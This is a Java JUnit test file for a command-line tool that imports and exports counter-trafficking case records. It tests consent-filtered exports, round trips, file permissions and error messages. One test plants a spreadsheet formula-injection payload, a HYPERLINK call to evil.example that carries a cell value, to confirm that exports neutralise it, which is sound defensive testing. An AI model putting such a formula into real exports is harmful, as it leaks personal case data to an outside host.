package org.cthub.app;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import picocli.CommandLine;
import tools.jackson.databind.json.JsonMapper;

/** The command line as a data manager uses it: generate, import with --json, export. */
class CthubCommandLineTest {

    @TempDir
    Path dir;

    private record Run(int exit, String out, String err) {
    }

    private Run cthub(String... args) {
        CommandLine commandLine = Cthub.commandLine();
        StringWriter out = new StringWriter();
        StringWriter err = new StringWriter();
        commandLine.setOut(new PrintWriter(out));
        commandLine.setErr(new PrintWriter(err));
        int exit = commandLine.execute(args);
        return new Run(exit, out.toString(), err.toString());
    }

    @Test
    void importPrintsOneJsonObjectWithTheDocumentedKeys() {
        Path file = dir.resolve("cases.csv");
        assertThat(cthub("generate", "--cases", "40", "--orgs", "1", "--seed", "3", "--out", file.toString()).exit())
                .isZero();
        Run run = cthub("import", file.toString(), "--org", "NGO1", "--json", "--home", dir.resolve("home").toString());
        assertThat(run.exit()).as(run.err()).isZero();
        @SuppressWarnings("unchecked")
        Map<String, Object> json = JsonMapper.builder().build().readValue(run.out(), Map.class);
        assertThat(json).containsKeys("batch", "file", "sha256", "rows", "accepted", "rejected", "duplicate",
                "problems");
        assertThat(json.get("rows")).isEqualTo(40);
        assertThat(json.get("accepted")).isEqualTo(40);
        assertThat(json.get("duplicate")).isEqualTo(false);
        assertThat((List<?>) json.get("problems")).isEmpty();

        Run again = cthub("import", file.toString(), "--org", "NGO1", "--json", "--home", dir.resolve("home").toString());
        assertThat(JsonMapper.builder().build().readValue(again.out(), Map.class).get("duplicate")).isEqualTo(true);
    }

    @Test
    void importFailsWithAOneLineReasonWhenTheFileCannotBeRead() throws IOException {
        Run missing = cthub("import", dir.resolve("nope.csv").toString(), "--org", "NGO1", "--home", dir.toString());
        assertThat(missing.exit()).isEqualTo(1);
        assertThat(missing.err().strip()).contains("nope.csv").doesNotContain("\n").doesNotContain("Exception");

        Path notASpreadsheet = dir.resolve("cases.xlsx");
        Files.write(notASpreadsheet, new byte[] {'P', 'K', 3, 4, 1, 2, 3});
        Run broken = cthub("import", notASpreadsheet.toString(), "--org", "NGO1", "--home", dir.toString());
        assertThat(broken.exit()).isEqualTo(1);
        assertThat(broken.err().strip()).contains("cases.xlsx").doesNotContain("\n");
    }

    @Test
    void exportsCtdc2024RecordsOnlyForCasesWithConsentToShare() throws IOException {
        Path file = dir.resolve("cases.csv");
        cthub("generate", "--cases", "200", "--orgs", "1", "--seed", "9", "--out", file.toString());
        String home = dir.resolve("home").toString();
        assertThat(cthub("import", file.toString(), "--org", "NGO1", "--home", home).exit()).isZero();
        Path out = dir.resolve("ctdc.csv");
        Run export = cthub("export", "--format", "ctdc-2024", "--out", out.toString(), "--home", home);
        assertThat(export.exit()).as(export.err()).isZero();
        List<CSVRecord> rows;
        try (var reader = Files.newBufferedReader(out, StandardCharsets.UTF_8)) {
            rows = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get().parse(reader).getRecords();
        }
        assertThat(rows).hasSizeBetween(140, 185);
        assertThat(export.out()).contains("without consent to share left out");
        assertThat(rows.get(0).toMap()).containsKeys("yearOfRegistration", "gender", "ageBroad", "citizenship");
        assertThat(rows).allSatisfy(row -> assertThat(row.get("citizenship")).matches("[A-Z]{3}|"));
    }

    @Test
    void anHtcdsExportImportsBackWithoutChangingAnyCase() {
        Path file = dir.resolve("cases.csv");
        cthub("generate", "--cases", "120", "--orgs", "1", "--seed", "11", "--out", file.toString());
        String home = dir.resolve("home").toString();
        assertThat(cthub("import", file.toString(), "--org", "NGO1", "--home", home).exit()).isZero();
        Path exported = dir.resolve("exported.csv");
        Run export = cthub("export", "--format", "htcds-csv", "--org", "NGO1", "--out", exported.toString(),
                "--home", home);
        assertThat(export.exit()).as(export.err()).isZero();

        Run reimport = cthub("import", exported.toString(), "--org", "NGO1", "--json", "--home", home);
        @SuppressWarnings("unchecked")
        Map<String, Object> json = JsonMapper.builder().build().readValue(reimport.out(), Map.class);
        assertThat(json.get("accepted")).isEqualTo(120);
        assertThat(json.get("unchanged")).as("every field survived the store and the export").isEqualTo(120);
        assertThat(json.get("updated")).isEqualTo(0);
        assertThat(json.get("inserted")).isEqualTo(0);
    }

    @Test
    void anIdentifyingExportIsOwnerOnlyAndCannotRunFormulasInASpreadsheet() throws IOException {
        Path file = dir.resolve("comment.csv");
        Files.writeString(file, "cas_Reference,prs_FirstName,cco_CaseComment\n"
                + "R-1,Ana,\"=HYPERLINK(\"\"http://evil.example/?\"\"&B2,\"\"click\"\")\"\n");
        String home = dir.resolve("home").toString();
        assertThat(cthub("import", file.toString(), "--org", "NGO1", "--home", home).exit()).isZero();
        Path out = dir.resolve("export.csv");
        assertThat(cthub("export", "--format", "htcds-csv", "--org", "NGO1", "--out", out.toString(), "--home", home)
                .exit()).isZero();

        assertThat(java.nio.file.attribute.PosixFilePermissions.toString(Files.getPosixFilePermissions(out)))
                .isEqualTo("rw-------");
        assertThat(java.nio.file.attribute.PosixFilePermissions.toString(
                Files.getPosixFilePermissions(dir.resolve("home")))).isEqualTo("rwx------");
        assertThat(Files.readString(out)).contains("'=HYPERLINK(").doesNotContain(",=HYPERLINK(");
    }

    @Test
    void anHtcdsExportHasRoomForEveryEventOfTheCaseWithTheMost() throws IOException {
        StringBuilder header = new StringBuilder("cas_Reference");
        StringBuilder row = new StringBuilder("R-1");
        for (int i = 1; i <= 7; i++) {
            header.append(',').append(i == 1 ? "hte_Type" : "hte_Type__" + i);
            row.append(",Transit");
        }
        Path file = dir.resolve("events.csv");
        Files.writeString(file, header + "\n" + row + "\n");
        String home = dir.resolve("home").toString();
        assertThat(cthub("import", file.toString(), "--org", "NGO1", "--home", home).exit()).isZero();
        Path out = dir.resolve("export.csv");
        Run export = cthub("export", "--format", "htcds-csv", "--org", "NGO1", "--out", out.toString(), "--home", home);

        assertThat(export.exit()).as(export.err()).isZero();
        assertThat(Files.readAllLines(out).get(0)).contains("hte_Type__7").doesNotContain("hte_Type__8");
    }

    @Test
    void refusesAnIdentifyingExportWithoutAnOrganisation() {
        Run run = cthub("export", "--format", "htcds-csv", "--out", dir.resolve("x.csv").toString(), "--home",
                dir.toString());
        assertThat(run.exit()).isEqualTo(2);
        assertThat(run.err()).contains("--org");
    }

    @Test
    void everyCommandHasHelp() {
        for (String command : List.of("import", "export", "generate", "demo", "estimate", "link", "release", "bench")) {
            Run run = cthub(command, "--help");
            assertThat(run.exit()).isZero();
            assertThat(run.out()).contains("Usage: cthub " + command);
        }
    }
}
